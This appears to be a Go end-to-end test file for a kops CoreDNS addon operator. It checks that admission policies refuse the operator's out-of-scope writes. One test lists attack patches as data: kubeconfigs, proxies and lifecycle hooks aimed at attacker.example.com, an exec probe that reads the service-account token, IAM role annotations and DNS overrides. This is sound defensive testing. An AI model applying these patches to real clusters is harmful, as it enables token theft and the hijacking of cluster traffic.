/*
Copyright 2026 The kops addon operators Authors.

Licensed under the Apache License, Version 2.0 (the "License");
you may not use this file except in compliance with the License.
You may obtain a copy of the License at

    http://www.apache.org/licenses/LICENSE-2.0

Unless required by applicable law or agreed to in writing, software
distributed under the License is distributed on an "AS IS" BASIS,
WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
See the License for the specific language governing permissions and
limitations under the License.
*/

package operator

import (
	"context"
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	corev1 "k8s.io/api/core/v1"
	apierrors "k8s.io/apimachinery/pkg/api/errors"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/runtime/schema"
	"k8s.io/client-go/dynamic"
	"sigs.k8s.io/yaml"

	channelsapi "k8s.io/kops/channels/pkg/api"
	"k8s.io/kops/pkg/addons/coredns"
	corednsmodel "k8s.io/kops/pkg/addons/coredns/kopsmodel"
	"k8s.io/kops/pkg/kubemanifest"
	"k8s.io/kops/pkg/operator/operatortest"
	"k8s.io/kops/tests/e2e/framework"
	"k8s.io/kops/tests/e2e/kopsenv"
)

// serverMetadata is what the API server sets in every object's metadata.
var serverMetadata = []string{"uid", "resourceVersion", "generation", "creationTimestamp", "managedFields"}

// TestRenderingIsWhatTheServerStores: the exact policy compares the operator's writes, as the API
// server holds them after defaulting, with what kops renders, so kops renders every field the server
// would default. For each golden case, every managed object of its CoreDNS rendering is sent as a
// server-side dry-run create; the server must store it unchanged but for its own metadata and the
// status it keeps apart.
func TestRenderingIsWhatTheServerStores(t *testing.T) {
	setup(t)
	ctx := framework.Context(t)
	dyn, err := dynamic.NewForConfig(env.Config)
	require.NoError(t, err)
	const namespace = "exact-defaults-e2e"
	_, err = env.Clientset.CoreV1().Namespaces().Create(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: namespace}}, metav1.CreateOptions{})
	if !apierrors.IsAlreadyExists(err) {
		require.NoError(t, err)
	}
	files, err := filepath.Glob(filepath.Join(kopsenv.RepoRoot(t), "tests", "integration", "update_cluster", "*", "expected", "addons", "coredns.addons.k8s.io", "*.yaml"))
	require.NoError(t, err)
	require.NotEmpty(t, files)
	managed := map[string]string{}
	for _, m := range corednsmodel.Descriptor().Managed {
		managed[m.Kind] = m.Name
	}
	checked := 0
	for _, file := range files {
		data, err := os.ReadFile(file)
		require.NoError(t, err)
		docs, err := kubemanifest.Split(data)
		require.NoError(t, err)
		for _, doc := range docs {
			u := &unstructured.Unstructured{}
			require.NoError(t, yaml.Unmarshal(doc, &u.Object))
			if u.GetNamespace() != coredns.WatchNamespace || managed[u.GetKind()] != u.GetName() {
				continue
			}
			checked++
			name := strings.TrimPrefix(file, kopsenv.RepoRoot(t)) + "/" + u.GetKind()
			t.Run(name, func(t *testing.T) {
				u.SetNamespace(namespace)
				// The case's DNS address is the server's kube-dns, or outside its service range: an
				// unused address of the same family stands in for it, on both sides.
				if u.GetKind() == "Service" {
					ip, _, _ := unstructured.NestedString(u.Object, "spec", "clusterIP")
					stand := "100.64.3.3"
					if strings.Contains(ip, ":") {
						stand = "fd00:5e4f:ce::3:3"
					}
					require.NoError(t, unstructured.SetNestedField(u.Object, stand, "spec", "clusterIP"))
					require.NoError(t, unstructured.SetNestedStringSlice(u.Object, []string{stand}, "spec", "clusterIPs"))
				}
				stored, err := dyn.Resource(mustResource(u.GetKind())).Namespace(namespace).Create(ctx, u, metav1.CreateOptions{
					DryRun: []string{metav1.DryRunAll}, FieldValidation: metav1.FieldValidationStrict})
				require.NoError(t, err)
				meta := stored.Object["metadata"].(map[string]interface{})
				for _, field := range serverMetadata {
					delete(meta, field)
				}
				delete(stored.Object, "status")
				if u.GetKind() == "Deployment" {
					// The replica count is left to the autoscaler (a hole of the policy, bounded): the
					// server defaults it to 1 until the autoscaler sets it.
					unstructured.RemoveNestedField(stored.Object, "spec", "replicas")
				}
				want, err := json.Marshal(u.Object)
				require.NoError(t, err)
				got, err := json.Marshal(stored.Object)
				require.NoError(t, err)
				assert.JSONEq(t, string(want), string(got), "stored exactly as rendered: every defaulted field is in the rendering")
			})
		}
	}
	assert.GreaterOrEqual(t, checked, 4*len(files), "every golden case's four managed objects")
}

// mutationSweep says whose writes of which resource a sweep compares, and what refuses them.
type mutationSweep struct {
	admin, operator dynamic.Interface
	// fieldManager is the operator's: a write under another name adds an entry its policy refuses.
	fieldManager string
	gvr          schema.GroupVersionResource
	// schema names the kind's OpenAPI schema among schemas.
	schema  string
	schemas map[string]map[string]interface{}
	// holes are the paths the policy leaves open: the operator's change there is admitted.
	holes map[string]bool
	// policy is the name (or its prefix) of the policy that must refuse the rest.
	policy string
}

// sweep is the attacker's sweep of obj, as the server holds it: every leaf changed, and every
// field its OpenAPI schema has but obj leaves out added. Each change the server takes from the
// admin (valid, and changing what is stored) must be refused to the operator by the policy, but
// for the holes. It returns how many were refused.
func sweep(t *testing.T, s mutationSweep, obj map[string]interface{}) int {
	t.Helper()
	ctx := framework.Context(t)
	baseline := dryRunUpdate(ctx, s.admin, "", s.gvr, obj)
	require.NoError(t, baseline.err)
	skip := func(path string) bool {
		return path == "apiVersion" || path == "kind" || path == "metadata.name" || path == "metadata.namespace" ||
			strings.HasPrefix(path, "status") || strings.HasPrefix(path, "metadata.managedFields") ||
			slices.Contains(serverMetadata, strings.TrimPrefix(path, "metadata."))
	}
	fields := schemaFields(s.schemas, s.schema, obj)
	mutations := operatortest.Leaves(obj, skip)
	mutations = append(mutations, operatortest.Additions(obj, skip, func(path string, _ map[string]interface{}) map[string]interface{} {
		return fields[path]
	})...)
	var denied, invalid, noop int
	for _, mu := range mutations {
		byAdmin := dryRunUpdate(ctx, s.admin, "", s.gvr, mu.Object)
		switch {
		case byAdmin.err != nil:
			invalid++
			continue
		case reflect.DeepEqual(stripServer(byAdmin.obj), stripServer(baseline.obj)):
			noop++ // the server drops or defaults it back: nothing the operator could write
			continue
		}
		byOperator := dryRunUpdate(ctx, s.operator, s.fieldManager, s.gvr, mu.Object)
		if s.holes[strings.TrimSuffix(mu.Path, " (added)")] {
			assert.NoError(t, byOperator.err, "%s is a hole", mu.Path)
			continue
		}
		if assert.Error(t, byOperator.err, "%s %s: admitted to the operator", s.gvr.Resource, mu.Path) {
			assert.True(t, deniedByPolicyOf(byOperator.err, s.policy), "%s: refused by the policy: %v", mu.Path, byOperator.err)
			denied++
		}
	}
	t.Logf("%s: %d mutations: %d denied, %d invalid for the server, %d no change", s.gvr.Resource, len(mutations), denied, invalid, noop)
	return denied
}

type result struct {
	obj map[string]interface{}
	err error
}

func dryRunUpdate(ctx context.Context, client dynamic.Interface, fieldManager string, gvr schema.GroupVersionResource, obj map[string]interface{}) result {
	u := &unstructured.Unstructured{Object: obj}
	out, err := client.Resource(gvr).Namespace(u.GetNamespace()).Update(ctx, u.DeepCopy(), metav1.UpdateOptions{
		DryRun: []string{metav1.DryRunAll}, FieldValidation: metav1.FieldValidationStrict, FieldManager: fieldManager})
	if err != nil {
		return result{err: err}
	}
	return result{obj: out.Object}
}

// stripServer is an object without what the server changes on every write.
func stripServer(obj map[string]interface{}) map[string]interface{} {
	out := (&unstructured.Unstructured{Object: obj}).DeepCopy().Object
	meta, _ := out["metadata"].(map[string]interface{})
	for _, field := range serverMetadata {
		delete(meta, field)
	}
	return out
}

// TestNamedAttacksDenied: the attacks a tester made against the field-by-field allow-list, each as
// the operator would send it, each denied now.
func TestNamedAttacksDenied(t *testing.T) {
	setup(t)
	builtIn(t)
	ctx := framework.Context(t)
	_, operatorDyn := asOperator(t)
	mountOverCA := `{"spec":{"template":{"spec":{"containers":[{"name":"coredns","env":[{"name":"KUBERNETES_SERVICE_HOST","value":"attacker.example.com"}],` +
		`"volumeMounts":[{"name":"config-volume","mountPath":"/etc/coredns","readOnly":true},{"name":"config-volume","mountPath":"/var/run/secrets/kubernetes.io/serviceaccount/ca.crt","subPath":"ca.crt"}]}]}}}}`
	attacks := []struct {
		name, kind, patch string
	}{
		{"token theft: a kubeconfig key in the ConfigMap", "ConfigMap", `{"data":{"kubeconfig":"apiVersion: v1\nkind: Config\nclusters: [{name: x, cluster: {server: 'https://attacker.example.com'}}]"}}`},
		{"token theft: the kubeconfig mounted through the volume's items", "Deployment", `{"spec":{"template":{"spec":{"volumes":[{"name":"config-volume","configMap":{"name":"coredns","defaultMode":420,"items":[{"key":"Corefile","path":"Corefile"},{"key":"kubeconfig","path":"kubeconfig"}]}}]}}}}`},
		{"token theft: the Corefile pointed at it", "ConfigMap", `{"data":{"Corefile":".:53 {\n    kubernetes cluster.local {\n        kubeconfig /etc/coredns/kubeconfig x\n    }\n}\n"}}`},
		{"token theft: a ConfigMap key over the CA, and another API server", "Deployment", mountOverCA},
		{"ownerReferences on the Deployment", "Deployment", ownerReference},
		{"ownerReferences on the Service", "Service", ownerReference},
		{"ownerReferences on the ConfigMap", "ConfigMap", ownerReference},
		{"ownerReferences on the ServiceAccount", "ServiceAccount", ownerReference},
		{"finalizers", "ConfigMap", `{"metadata":{"finalizers":["example.com/block"]}}`},
		{"kube2iam role for CoreDNS", "Deployment", `{"spec":{"template":{"metadata":{"annotations":{"iam.amazonaws.com/role":"admin"}}}}}`},
		{"IRSA role for its ServiceAccount", "ServiceAccount", `{"metadata":{"annotations":{"eks.amazonaws.com/role-arn":"arn:aws:iam::1:role/admin"}}}`},
		{"seccomp through an annotation", "Deployment", `{"spec":{"template":{"metadata":{"annotations":{"container.seccomp.security.alpha.kubernetes.io/coredns":"unconfined"}}}}}`},
		{"an immutable ConfigMap", "ConfigMap", `{"immutable":true}`},
		{"binaryData", "ConfigMap", `{"binaryData":{"x":"eA=="}}`},
		{"kube-proxy told to drop kube-dns", "Service", `{"metadata":{"labels":{"service.kubernetes.io/service-proxy-name":"none"}}}`},
		{"channels' addon label removed", "Deployment", `{"metadata":{"labels":{"addon.kops.k8s.io/name":null}}}`},
		{"topologySpreadConstraints dropped", "Deployment", `{"spec":{"template":{"spec":{"topologySpreadConstraints":null}}}}`},
		{"command", "Deployment", `{"spec":{"template":{"spec":{"containers":[{"name":"coredns","command":["/bin/sh"]}]}}}}`},
		{"an exec probe", "Deployment", `{"spec":{"template":{"spec":{"containers":[{"name":"coredns","startupProbe":{"exec":{"command":["cat","/var/run/secrets/kubernetes.io/serviceaccount/token"]}}}]}}}}`},
		{"a lifecycle hook", "Deployment", `{"spec":{"template":{"spec":{"containers":[{"name":"coredns","lifecycle":{"postStart":{"httpGet":{"port":80,"host":"attacker.example.com"}}}}]}}}}`},
		{"a writable root", "Deployment", `{"spec":{"template":{"spec":{"containers":[{"name":"coredns","securityContext":{"readOnlyRootFilesystem":false}}]}}}}`},
		{"fsGroup", "Deployment", `{"spec":{"template":{"spec":{"securityContext":{"fsGroup":1000}}}}}`},
		{"supplementalGroups", "Deployment", `{"spec":{"template":{"spec":{"securityContext":{"supplementalGroups":[1000]}}}}}`},
		{"dnsPolicy", "Deployment", `{"spec":{"template":{"spec":{"dnsPolicy":"ClusterFirst"}}}}`},
		{"dnsConfig", "Deployment", `{"spec":{"template":{"spec":{"dnsConfig":{"nameservers":["203.0.113.53"]}}}}}`},
		{"hostAliases", "Deployment", `{"spec":{"template":{"spec":{"hostAliases":[{"ip":"203.0.113.1","hostnames":["kubernetes.default.svc"]}]}}}}`},
		{"a proxy", "Deployment", `{"spec":{"template":{"spec":{"containers":[{"name":"coredns","env":[{"name":"HTTPS_PROXY","value":"http://attacker.example.com:3128"}]}]}}}}`},
	}
	for _, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			gvr := mustResource(a.kind)
			_, err := operatorDyn.Resource(gvr).Namespace(coredns.WatchNamespace).Patch(ctx, managedName(a.kind), "application/strategic-merge-patch+json",
				[]byte(a.patch), metav1.PatchOptions{DryRun: dryRun})
			require.Error(t, err, "admitted")
			assert.True(t, deniedByPolicyOf(err, "coredns-operator-scope"), "refused by the policy: %v", err)
		})
	}
	t.Run("an event naming another host", func(t *testing.T) {
		event := map[string]interface{}{"apiVersion": "v1", "kind": "Event",
			"metadata":       map[string]interface{}{"name": "e2e-host", "namespace": coredns.WatchNamespace},
			"involvedObject": map[string]interface{}{"apiVersion": "apps/v1", "kind": "Deployment", "name": "coredns", "namespace": coredns.WatchNamespace},
			"reason":         "Applied", "message": "m", "type": "Normal",
			"source":             map[string]interface{}{"component": corednsmodel.Descriptor().EventReporter(), "host": "ip-10-0-0-1.ec2.internal"},
			"reportingComponent": corednsmodel.Descriptor().EventReporter(), "reportingInstance": "ip-10-0-0-1.ec2.internal"}
		_, err := operatorDyn.Resource(schema.GroupVersionResource{Version: "v1", Resource: "events"}).Namespace(coredns.WatchNamespace).
			Create(ctx, &unstructured.Unstructured{Object: event}, metav1.CreateOptions{DryRun: dryRun})
		require.Error(t, err)
		d, ok := channelsapi.AsPolicyDenial(err)
		assert.True(t, ok && d.Policy == "coredns-operator-scope", "refused by the scope policy: %v", err)
	})
}

const ownerReference = `{"metadata":{"ownerReferences":[{"apiVersion":"v1","kind":"ConfigMap","name":"gone","uid":"00000000-0000-0000-0000-000000000001"}]}}`

func managedName(kind string) string {
	for _, m := range corednsmodel.Descriptor().Managed {
		if m.Kind == kind {
			return m.Name
		}
	}
	return ""
}

// openAPISchemas are the server's OpenAPI v3 component schemas of the core and apps groups.
func openAPISchemas(t *testing.T) map[string]map[string]interface{} {
	t.Helper()
	out := map[string]map[string]interface{}{}
	for _, path := range []string{"/openapi/v3/api/v1", "/openapi/v3/apis/apps/v1"} {
		data, err := env.Clientset.Discovery().RESTClient().Get().AbsPath(path).DoRaw(framework.Context(t))
		require.NoError(t, err, path)
		var doc struct {
			Components struct {
				Schemas map[string]map[string]interface{} `json:"schemas"`
			} `json:"components"`
		}
		require.NoError(t, json.Unmarshal(data, &doc))
		for k, v := range doc.Components.Schemas {
			out[k] = v
		}
	}
	return out
}

func kindSchema(kind string) string {
	if kind == "Deployment" {
		return "io.k8s.api.apps.v1.Deployment"
	}
	return "io.k8s.api.core.v1." + kind
}

// schemaFields maps the path of every map of obj to the fields its schema has that it lacks, each
// with a small value of its type: what an operator could add there.
func schemaFields(schemas map[string]map[string]interface{}, name string, obj map[string]interface{}) map[string]map[string]interface{} {
	out := map[string]map[string]interface{}{}
	var walk func(path string, v interface{}, s map[string]interface{})
	walk = func(path string, v interface{}, s map[string]interface{}) {
		s = resolve(schemas, s)
		switch v := v.(type) {
		case map[string]interface{}:
			props, _ := s["properties"].(map[string]interface{})
			extra := map[string]interface{}{}
			for k, p := range props {
				if _, ok := v[k]; !ok {
					extra[k] = sample(schemas, p.(map[string]interface{}), 0)
				}
			}
			out[path] = extra
			for k, e := range v {
				child := joinPath(path, k)
				if p, ok := props[k].(map[string]interface{}); ok {
					walk(child, e, p)
				} else if ap, ok := s["additionalProperties"].(map[string]interface{}); ok {
					walk(child, e, ap)
				}
			}
			if ap, ok := s["additionalProperties"].(map[string]interface{}); ok && props == nil {
				out[path] = map[string]interface{}{"kops-probe": sample(schemas, ap, 0)}
			}
		case []interface{}:
			items, _ := s["items"].(map[string]interface{})
			for i, e := range v {
				walk(fmt.Sprintf("%s[%d]", path, i), e, items)
			}
		}
	}
	walk("", obj, schemas[name])
	return out
}

// joinPath writes a child's path as operatortest does.
func joinPath(path, key string) string {
	if strings.ContainsAny(key, ".[]\"") {
		return path + `["` + key + `"]`
	}
	if path == "" {
		return key
	}
	return path + "." + key
}

// resolve follows $ref and allOf[0].$ref to the schema they name.
func resolve(schemas map[string]map[string]interface{}, s map[string]interface{}) map[string]interface{} {
	for i := 0; i < 4 && s != nil; i++ {
		if ref, ok := s["$ref"].(string); ok {
			s = schemas[strings.TrimPrefix(ref, "#/components/schemas/")]
			continue
		}
		if all, ok := s["allOf"].([]interface{}); ok && len(all) == 1 {
			s = all[0].(map[string]interface{})
			continue
		}
		break
	}
	return s
}

// sample is a small value of a schema's type; objects are filled one level deep.
func sample(schemas map[string]map[string]interface{}, s map[string]interface{}, depth int) interface{} {
	s = resolve(schemas, s)
	if s["x-kubernetes-int-or-string"] == true {
		return int64(1)
	}
	switch s["type"] {
	case "string":
		return "x"
	case "integer", "number":
		return int64(1)
	case "boolean":
		return true
	case "array":
		items, _ := s["items"].(map[string]interface{})
		return []interface{}{sample(schemas, items, depth+1)}
	}
	out := map[string]interface{}{}
	if depth > 1 {
		return out
	}
	props, _ := s["properties"].(map[string]interface{})
	for _, req := range stringsOf(s["required"]) {
		if p, ok := props[req].(map[string]interface{}); ok {
			out[req] = sample(schemas, p, depth+1)
		}
	}
	if ap, ok := s["additionalProperties"].(map[string]interface{}); ok {
		out["kops-probe"] = sample(schemas, ap, depth+1)
	}
	return out
}

func stringsOf(v interface{}) []string {
	list, _ := v.([]interface{})
	out := make([]string, 0, len(list))
	for _, e := range list {
		if s, ok := e.(string); ok {
			out = append(out, s)
		}
	}
	return out
}

// deniedByPolicyOf tells whether a policy of the operator named by prefix (its scope or exact
// policy) denied the request.
func deniedByPolicyOf(err error, prefix string) bool {
	d, ok := channelsapi.AsPolicyDenial(err)
	return ok && strings.HasPrefix(d.Policy, prefix)
}
